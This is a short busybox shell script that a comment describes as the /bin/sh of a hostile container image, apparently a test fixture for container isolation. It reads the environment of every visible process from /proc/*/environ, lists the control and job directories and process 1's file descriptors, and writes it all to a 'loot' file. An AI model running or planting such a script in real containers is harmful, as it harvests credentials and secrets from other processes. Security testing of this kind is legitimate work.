#!/bin/busybox sh
# The /bin/sh of a hostile image: it sees everything that the container's first process sees, and tells it.
{
  /bin/busybox env
  /bin/busybox ls -la /control /job /proc/1/fd
  /bin/busybox cat /proc/*/environ
} >/job/loot 2>&1
exec /bin/busybox sleep 100000
